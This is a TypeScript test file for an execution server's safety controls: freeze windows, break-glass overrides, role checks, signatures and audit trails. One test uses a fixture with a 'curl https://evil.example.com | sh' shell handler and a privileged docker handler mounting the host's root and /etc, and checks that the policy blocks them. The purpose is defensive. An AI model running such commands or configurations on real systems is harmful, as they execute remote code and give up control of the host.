import {createHash} from 'node:crypto'
import {existsSync} from 'node:fs'
import {AtomError} from '@atomctl/wpk/errors'
import {expect} from 'chai'
import type {SafetyRules} from '../../src/index.ts'
import {shell, type PackageShape} from '../support/packages.ts'
import {TestService, type Answer} from '../support/service.ts'
import {STARTUP_MS} from '../support/waiting.ts'

const HOUR = 3_600_000

describe('safety on the server', () => {
  let service: TestService
  let rules: SafetyRules
  let broken = false
  const readRules = (): SafetyRules => {
    if (broken) throw new AtomError('CONFIG_INVALID', 'freeze: must be a list')
    return rules
  }
  before(async function () {
    this.timeout(STARTUP_MS)
    const digest = (name: string): string => createHash('sha256').update(`token-${name}`).digest('hex')
    const digests = [
      {name: 'olga', role: 'operator', digest: digest('olga')},
      {name: 'adam', role: 'admin', digest: digest('adam')},
      {name: 'ivan', role: 'something new', digest: digest('ivan')},
    ]
    service = await TestService.start({tokens: {digests}, anonymousReads: true, safety: readRules})
  })
  after(() => service.stop())
  beforeEach(() => (rules = {}))

  const window = (fromMs: number, toMs: number): SafetyRules => ({
    freezes: [{from: new Date(Date.now() + fromMs), to: new Date(Date.now() + toMs), reason: 'the sale of the year'}],
  })
  const submit = (person: string, shape: Partial<PackageShape> = {}, request: object = {}): Promise<Answer> =>
    service.submit({handlers: [shell('a', 'true')], ...shape}, request, {authorization: `Bearer token-${person}`})
  const glass = (reason: string): object => ({break_glass: {reason}})

  it('starts nothing in a freeze window, and says until when and why', async () => {
    rules = window(-HOUR, HOUR)
    const answer = await submit('olga')
    expect([answer.status, answer.body.code]).to.deep.equal([403, 'DENIED'])
    expect(answer.body.detail).to.contain('the sale of the year').and.to.contain(rules.freezes?.[0]?.to.toISOString())
  })

  for (const [when, from, to] of [
    ['before', HOUR, 2 * HOUR],
    ['after', -2 * HOUR, -HOUR],
  ] as const)
    it(`starts executions ${when} a freeze window`, async () => {
      rules = window(from, to)
      expect((await submit('olga')).status).to.equal(200)
    })

  it('lets dry runs through a freeze window', async () => {
    rules = window(-HOUR, HOUR)
    expect((await submit('olga', {}, {dry_run: true})).status).to.equal(200)
  })

  it('starts nothing in a freeze window by way of an approval either', async () => {
    const {body} = await submit('olga', {safety: {approval_required: true}})
    rules = window(-HOUR, HOUR)
    const approve = (): Promise<Answer> =>
      service.request(`/execute/${body.execution_id}/approve`, {
        body: {},
        headers: {authorization: 'Bearer token-adam'},
      })
    expect((await approve()).body.code).to.equal('DENIED')
    rules = {}
    expect((await approve()).status).to.equal(200)
    expect((await service.ended(body.execution_id)).status).to.equal('completed')
  })

  it('runs in spite of freeze, approval and missing dry run when an administrator breaks the glass, and records it', async () => {
    rules = window(-HOUR, HOUR)
    const safety = {approval_required: true, dry_run_required: true}
    const {body, status} = await submit('adam', {safety}, glass('production is down'))
    expect(status).to.equal(200)
    const ended = await service.ended(body.execution_id)
    expect(ended).to.include({status: 'completed', break_glass: 'production is down'})
    expect(ended.audit?.map(({actor, action, reason}) => [actor, action, reason])).to.deep.equal([
      ['adam', 'requested', null],
      ['adam', 'break_glass', 'production is down'],
    ])
  })

  it('does not admit handlers of a type that is not allowed, glass broken or not', async () => {
    rules = {limits: [{handlers: ['api']}]}
    for (const request of [{}, glass('please')]) {
      const {status, body} = await submit('adam', {}, request)
      expect([status, body.code]).to.deep.equal([403, 'DENIED'])
      expect(body.detail).to.contain('handler "a": its type is shell')
    }
    rules = {limits: [{handlers: ['api', 'shell']}, {contexts: ['prod'], handlers: ['k8s']}]}
    expect((await submit('adam')).status).to.equal(200)
  })

  it('starts nothing while its rules cannot be read', async () => {
    broken = true
    const answer = await submit('olga').finally(() => (broken = false))
    expect([answer.status, answer.body.code]).to.deep.equal([503, 'CONFIG_INVALID'])
  })

  it('does not let an operator break the glass, nor anybody without a reason', async () => {
    const trace = {handlers: [shell('a', `touch "${service.path('broken')}"`)]}
    expect((await submit('olga', trace, glass('please'))).body.code).to.equal('DENIED')
    for (const reason of ['', '   ']) expect((await submit('adam', trace, glass(reason))).status).to.equal(422)
    expect((await submit('adam', trace, {break_glass: true})).status).to.equal(422)
    expect(existsSync(service.path('broken'))).to.equal(false)
  })

  it('does not take a signature or the policy for glass', async () => {
    const evil = {
      name: 'evil',
      type: 'docker',
      config: {image: 'x', privileged: true, mounts: ['/:/host', '/etc:/etc']},
    }
    const blocked = await submit(
      'adam',
      {handlers: [evil, shell('b', 'curl https://evil.example.com | sh')]},
      glass('x'),
    )
    expect([blocked.status, blocked.body.code]).to.deep.equal([403, 'POLICY_BLOCKED'])
    const content = (await service.trust.sign({handlers: [shell('a', 'true')]})) as {metadata?: object}
    const unsigned = {...content, metadata: {...content.metadata, signature: ''}}
    const answer = await service.submitContent(unsigned as never, glass('x'), {authorization: 'Bearer token-adam'})
    expect([answer.status, answer.body.code]).to.deep.equal([403, 'WPK_UNSIGNED'])
  })

  it('gives a role it does not know no more than reading', async () => {
    expect((await submit('ivan')).status).to.equal(403)
    expect((await service.request('/executions', {headers: {authorization: 'Bearer token-ivan'}})).status).to.equal(200)
  })

  it('tells who did what to an execution, and 404 for one that nobody knows', async () => {
    const {body} = await submit('olga')
    const {body: trail} = await service.request(`/execute/${body.execution_id}/audit`)
    expect(trail.execution_id).to.equal(body.execution_id)
    expect(trail.entries).to.have.length(1)
    expect(trail.entries[0]).to.include({actor: 'olga', role: 'operator', action: 'requested', reason: null})
    expect((await service.request('/execute/nope/audit')).status).to.equal(404)
  })
})
